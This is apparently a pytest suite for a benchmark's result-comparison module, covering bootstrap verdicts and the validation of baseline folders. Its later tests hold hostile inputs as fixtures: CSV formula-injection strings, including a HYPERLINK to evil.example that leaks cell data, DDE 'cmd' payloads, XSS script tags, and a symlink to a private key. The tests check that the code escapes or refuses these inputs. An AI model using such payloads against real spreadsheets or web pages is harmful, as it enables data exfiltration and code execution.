"""Two result sets compared: verdicts from a bootstrap interval and a threshold, settings matched
by their values, bad baselines named in one line; end to end on two real result sets."""

import csv
import os
import re
import resource
import shutil

import numpy as np
import pandas as pd
import pytest
from conftest import DOT_TEST, REPO, snakemake

from mnistbench.grid import Run
from mnistbench.report import compare


def runs_table(times: dict[str, list[float]], factor: float = 1.0) -> pd.DataFrame:
    """A runs.csv of settings named by batch size, with the given train times."""
    rows = []
    for batch, seconds in times.items():
        for repeat, value in enumerate(seconds, start=1):
            rows.append(
                {
                    **Run(batch_size=int(batch)).settings(),
                    "repeat": repeat,
                    "status": "ok",
                    "time_train": value * factor,
                    "time_epoch_steady": np.nan,
                    "time_job": value * factor + 3,
                    "test_accuracy": 0.9,
                    "code_version": "abc",
                }
            )
    return pd.DataFrame(rows)


TIMES = {"4": [5.0, 5.2, 4.9], "32": [1.5, 1.6, 1.55], "128": [1.0, 1.02, 0.98]}
MACHINE = pd.DataFrame([{"host": "laptop", "cpu": "x86_64", "cores": 2}])


def write_baseline(folder, runs: pd.DataFrame | None = None, machine: pd.DataFrame = MACHINE):
    """A result set on disk as another machine leaves it: FOLDER/summary/runs.csv and machine.csv."""
    (folder / "summary").mkdir(parents=True)
    (runs_table(TIMES) if runs is None else runs).to_csv(folder / "summary/runs.csv", index=False)
    machine.to_csv(folder / "summary/machine.csv", index=False)
    return folder


def run_compare(tmp_path, baseline) -> dict:
    """compare.run on real files: this set's runs.csv and machine.csv against BASELINE."""
    ours = write_baseline(tmp_path / "ours", machine=MACHINE.assign(host="workstation")) / "summary"
    outputs = {"table": tmp_path / "out/compare.csv", "html": tmp_path / "out/compare.html"}
    inputs = {"runs": ours / "runs.csv", "machine": ours / "machine.csv"}
    compare.run(inputs, outputs, baseline, threshold=1.1, confidence=0.95)
    return outputs


def test_a_baseline_three_times_slower_reads_faster_everywhere():
    table = compare.compare(runs_table(TIMES), runs_table(TIMES, factor=3.0))
    settings = table[table["verdict"] != "geometric mean"]
    assert list(settings["verdict"]) == ["faster"] * 3
    assert settings["time_train_ratio"].to_numpy() == pytest.approx(1 / 3)
    assert (settings["time_train_ratio_high"] < 1).all()
    assert table.iloc[-1]["verdict"] == "geometric mean" and table.iloc[-1][
        "time_train_ratio"
    ] == pytest.approx(1 / 3)


def test_small_or_unclear_differences_read_same():
    slightly = compare.compare(runs_table(TIMES, factor=1.05), runs_table(TIMES))  # within the threshold
    assert set(slightly["verdict"]) == {"same", "geometric mean"}
    noisy = {"4": [5.0, 9.0, 3.0], "32": [1.5, 1.6, 1.55], "128": [1.0, 1.02, 0.98]}
    table = compare.compare(runs_table(noisy), runs_table({"4": [6.0, 4.5, 8.0], **TIMES}))
    assert table.iloc[0]["verdict"] == "same"  # the interval spans 1


def test_one_repeat_on_a_side_reads_too_few_repeats_never_same():
    """One repeat tells nothing of the spread: 3x slower with no interval is neither same nor slower."""
    single = compare.compare(runs_table({"4": [15.0]}), runs_table({"4": [5.0, 5.1]}))
    assert single.iloc[0]["verdict"] == "too few repeats"
    assert single.iloc[0]["time_train_ratio"] == pytest.approx(15.0 / 5.05)


def test_settings_in_one_set_only_are_listed():
    table = compare.compare(
        runs_table({"4": [5.0, 5.1], "32": [1.5, 1.6]}), runs_table({"4": [5.0, 5.1], "128": [1, 1]})
    )
    assert sorted(table["verdict"]) == ["geometric mean", "only in the baseline", "only in this set", "same"]


def test_bad_baselines_are_named_in_one_line(tmp_path):
    with pytest.raises(compare.BaselineError, match="does not exist"):
        compare.check_baseline(tmp_path / "nowhere")
    with pytest.raises(compare.BaselineError, match="holds no runs"):
        compare.check_baseline(tmp_path)
    (tmp_path / "summary").mkdir()
    runs_table(TIMES).drop(columns="repeat").to_csv(tmp_path / "summary/runs.csv", index=False)
    with pytest.raises(
        compare.BaselineError, match="incompatible version of the workflow \\(no column 'repeat'\\)"
    ):
        compare.check_baseline(tmp_path)


@pytest.mark.slow
def test_two_real_result_sets_compared_end_to_end(tmp_path, request):
    """Two runs of the shipped small config on this machine, the session's as the baseline: the
    ratios and intervals agree with the runs' numbers (the verdicts cannot be predicted: the train
    phases are too short); the new set against an identical copy of itself: `same` with ratio 1
    for every setting; against itself with every time made three times longer: `faster`."""
    new = tmp_path / "new"
    new.mkdir()
    for file in ("config.yaml", "mnist-small.npz"):
        shutil.copy(REPO / ".test" / file, new / file)
    snakemake(new, None, *DOT_TEST)  # trained while another worker may build the baseline
    baseline = request.getfixturevalue("dot_test_run")[0] / "results"
    snakemake(new, None, *DOT_TEST, "--config", f"compare={{baseline: {baseline}}}")
    table = pd.read_csv(new / "results/summary/compare.csv")
    settings = table[table["verdict"] != "geometric mean"]
    assert len(settings) == 3 and set(settings["verdict"]) <= {"same", "faster", "slower"}, settings
    new_runs, base_runs = (pd.read_csv(folder / "summary/runs.csv") for folder in (new / "results", baseline))
    for _, row in settings.iterrows():
        mine, theirs = (
            runs.loc[
                (runs["model"] == row["model"]) & (runs["batch_size"] == row["batch_size"]), "time_train"
            ]
            for runs in (new_runs, base_runs)
        )
        assert row["n"] == len(mine) == 2 and row["n_baseline"] == len(theirs) == 2
        assert row["time_train_ratio"] == pytest.approx(mine.median() / theirs.median())
        # The bootstrap draws medians of each side's repeats: its interval lies within the
        # extreme ratios and holds the ratio of the medians.
        low, ratio, high = row["time_train_ratio_low"], row["time_train_ratio"], row["time_train_ratio_high"]
        assert mine.min() / theirs.max() - 1e-9 <= low <= ratio <= high <= mine.max() / theirs.min() + 1e-9
        assert row["verdict"] in {"same", "faster", "slower"}, row  # 2 repeats a side: an interval
    geometric = table.loc[table["verdict"] == "geometric mean", "time_train_ratio"].item()
    assert geometric == pytest.approx(np.exp(np.log(settings["time_train_ratio"]).mean()))
    page = (new / "results/compare.html").read_text()
    assert "Machines and software" in page and "data:image/png;base64," in page
    assert not re.search(r'src="https?://', page)

    identical = compare.compare(new_runs, new_runs.copy())  # no difference to find
    compared = identical[identical["verdict"] != "geometric mean"]
    assert list(compared["verdict"]) == ["same"] * 3 and (compared["time_train_ratio"] == 1).all()

    slow = tmp_path / "slow-baseline"
    shutil.copytree(new / "results/summary", slow)
    runs = pd.read_csv(slow / "runs.csv")
    for column in ("time_train", "time_epoch_steady", "time_job"):
        runs[column] *= 3
    runs.to_csv(slow / "runs.csv", index=False)
    snakemake(new, None, *DOT_TEST, "--config", f"compare={{baseline: {slow}}}")
    table = pd.read_csv(new / "results/summary/compare.csv")
    assert list(table.loc[table["verdict"] != "geometric mean", "verdict"]) == ["faster"] * 3
    assert table["time_train_ratio"].to_numpy() == pytest.approx(1 / 3)


def test_a_missing_baseline_stops_before_any_job(tmp_path):
    config = {"experiments": {"x": [{}]}, "compare": {"baseline": str(tmp_path / "nowhere")}}
    result = snakemake(tmp_path, config, "-n", check=False)
    lines = [line for line in (result.stdout + result.stderr).splitlines() if line.startswith("config key")]
    assert result.returncode != 0 and len(lines) == 1 and "compare.baseline" in lines[0], lines


@pytest.mark.parametrize("link", ["summary/machine.csv", "summary/runs.csv", "summary"])
def test_a_link_anywhere_below_the_baseline_is_refused_by_name(tmp_path, link):
    """The finding: summary/machine.csv linked to a private key put the key into compare.html."""
    key = tmp_path / "id_ed25519"
    key.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n")
    baseline = write_baseline(tmp_path / "baseline")
    linked = baseline / link
    if link.endswith("machine.csv"):
        linked.unlink()
        linked.symlink_to(key)
    else:  # a genuine table or folder, moved away and linked back
        linked.rename(tmp_path / "moved")
        linked.symlink_to(tmp_path / "moved")
    expected = (
        f"config key 'compare.baseline': {linked} is a symbolic link; a baseline must hold regular files only"
    )
    with pytest.raises(compare.BaselineError) as raised:
        compare.check_baseline(baseline)
    assert str(raised.value) == expected
    with pytest.raises(compare.BaselineError, match="is a symbolic link"):
        run_compare(tmp_path, baseline)
    assert not (tmp_path / "out/compare.html").exists()


def test_a_linked_folder_named_by_the_user_is_read(tmp_path):
    """Only what lies below the named folder must be real: the name itself may be a link."""
    named = tmp_path / "laptop-results"
    named.symlink_to(write_baseline(tmp_path / "baseline"))
    assert compare.check_baseline(named) == {
        "runs": named / "summary/runs.csv",
        "machine": named / "summary/machine.csv",
    }
    table = pd.read_csv(run_compare(tmp_path, named)["table"])
    assert set(table["verdict"]) == {"same", "geometric mean"}


def test_tables_that_are_not_regular_files_are_refused(tmp_path):
    baseline = write_baseline(tmp_path / "baseline")
    machine = baseline / "summary/machine.csv"
    machine.unlink()
    os.mkfifo(machine)  # opening it for reading would wait for a writer forever
    with pytest.raises(compare.BaselineError, match=f"{re.escape(str(machine))} is not a regular file"):
        compare.check_baseline(baseline)
    machine.unlink()
    machine.mkdir()
    with pytest.raises(compare.BaselineError, match=f"{re.escape(str(machine))} is not a regular file"):
        compare.check_baseline(baseline)


def test_a_table_over_the_size_cap_is_refused_before_it_is_read(tmp_path):
    runs = write_baseline(tmp_path / "baseline") / "summary/runs.csv"
    with open(runs, "r+b") as handle:
        handle.truncate(400 * 2**20)  # sparse: 400 MB to read, none of it on disk
    peak_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(compare.BaselineError) as raised:
        compare.check_baseline(tmp_path / "baseline")
    assert str(raised.value).endswith(f"{runs} is larger than 64 MiB, the most a baseline table may be")
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak_kib < 50 * 1024


def long_runs_table() -> pd.DataFrame:
    """Ten runs: a fault on row 8 lies beyond the first five rows that used to be checked."""
    return runs_table({"4": [5.0, 5.1], "8": [3.0, 3.1], "16": [2.0, 2.1], "32": [1.5, 1.6], "64": [1, 1.1]})


@pytest.mark.parametrize(
    ("column", "value", "reason"),
    [
        ("time_train", "12,5 s", "is not a number"),
        ("batch_size", "32x", "is not a number"),
        ("repeat", "second", "is not a number"),
        ("status", "3", "is not a status (text such as ok)"),
    ],
)
def test_a_bad_value_far_down_is_named_by_file_row_and_column(tmp_path, column, value, reason):
    runs = long_runs_table().astype({column: object})
    runs.loc[7, column] = value  # data row 8; to_csv quotes "12,5 s"
    baseline = write_baseline(tmp_path / "baseline", runs)
    with pytest.raises(compare.BaselineError) as raised:
        compare.check_baseline(baseline)
    path = baseline / "summary/runs.csv"
    assert str(raised.value) == (
        f"config key 'compare.baseline': {path} data row 8 (1-based), column {column!r}: {value!r} {reason}"
    )


@pytest.mark.parametrize("table", ["runs.csv", "machine.csv"])
def test_a_row_with_an_extra_field_is_named_by_file_and_line(tmp_path, table):
    baseline = write_baseline(tmp_path / "baseline", long_runs_table(), pd.concat([MACHINE] * 3))
    path = baseline / "summary" / table
    lines = path.read_text().splitlines()
    lines[3] += ",12,5 s"  # an unquoted decimal comma: one field too many on line 4
    path.write_text("\n".join(lines) + "\n")
    fields = len(lines[0].split(","))
    with pytest.raises(compare.BaselineError) as raised:
        compare.check_baseline(baseline)
    assert str(raised.value) == (
        f"config key 'compare.baseline': {path} is not a CSV table "
        f"(Expected {fields} fields in line 4, saw {fields + 2})"
    )


def test_an_extra_field_on_every_row_is_not_taken_for_an_index(tmp_path):
    """pandas would quietly make the first column the index and shift every column by one."""
    baseline = write_baseline(tmp_path / "baseline")
    path = baseline / "summary/runs.csv"
    header, *rows = path.read_text().splitlines()
    path.write_text("\n".join([header, *(f"{row},extra" for row in rows)]) + "\n")
    with pytest.raises(compare.BaselineError, match="has more fields in every data row than in its header"):
        compare.check_baseline(baseline)


def test_a_malformed_row_stops_the_workflow_before_any_job(tmp_path):
    runs = long_runs_table().astype({"time_train": object})
    runs.loc[9, "time_train"] = "12,5 s"
    baseline = write_baseline(tmp_path / "baseline", runs)
    config = {"experiments": {"x": [{}]}, "compare": {"baseline": str(baseline)}}
    result = snakemake(tmp_path, config, "-n", check=False)
    output = result.stdout + result.stderr
    lines = [line for line in output.splitlines() if line.startswith("config key")]
    assert result.returncode != 0 and len(lines) == 1, output
    assert lines[0].endswith("data row 10 (1-based), column 'time_train': '12,5 s' is not a number")
    assert "Traceback" not in output


@pytest.mark.filterwarnings("ignore:invalid value encountered in log")  # gmean of -0.25
def test_formulas_from_a_baseline_reach_compare_csv_as_text_and_the_page_escaped(tmp_path):
    hostile = runs_table({"64": [1.0, 1.1]}).assign(
        dataset='=HYPERLINK("http://evil.example/?"&A1,"open")',
        model="<script>alert(1)</script>",
        activation="-2+3+cmd|' /C calc'!A0",
        optimizer="@SUM(1+1)",
        normalize="\tscale",
        backend="+cmd|' /C calc'!A0",
        learning_rate=-0.5,  # a number, written as the text "-0.5" in a setting column
    )
    negative = runs_table({"4": [5.0, 5.1]}).assign(test_accuracy=-0.25)
    machine = MACHINE.assign(cpu="<img src=x onerror=alert(2)>")
    baseline = write_baseline(tmp_path / "baseline", pd.concat([negative, hostile]), machine)
    outputs = run_compare(tmp_path, baseline)
    with open(outputs["table"], newline="") as handle:
        rows = {row["batch_size"]: row for row in csv.DictReader(handle)}
    assert {
        key: rows["64"][key] for key in ("dataset", "activation", "optimizer", "normalize", "backend")
    } == {
        "dataset": '\'=HYPERLINK("http://evil.example/?"&A1,"open")',
        "activation": "'-2+3+cmd|' /C calc'!A0",
        "optimizer": "'@SUM(1+1)",
        "normalize": "'\tscale",
        "backend": "'+cmd|' /C calc'!A0",
    }
    assert rows["64"]["model"] == "<script>alert(1)</script>"  # no formula: left for the page to escape
    assert rows["64"]["learning_rate"] == "-0.5" and rows["4"]["learning_rate"] == "-"
    assert rows["4"]["test_accuracy_baseline_median"] == "-0.25"
    assert float(rows["4"]["time_train_ratio"]) == pytest.approx(5.0 / 5.05)
    page = outputs["html"].read_text()
    assert "<script>alert" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<img src=x" not in page and "&lt;img src=x onerror=alert(2)&gt;" in page


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("\rcmd", "'\rcmd"),
        ("-", "-"),
        ("-0.5", "-0.5"),
        ("+1e-3", "+1e-3"),
        ("-1+A1", "'-1+A1"),
        (-0.5, -0.5),
        (3, 3),
        ("mnist", "mnist"),
    ],
)
def test_only_text_a_spreadsheet_would_run_is_quoted(value, written):
    assert compare.spreadsheet_safe(value) == written
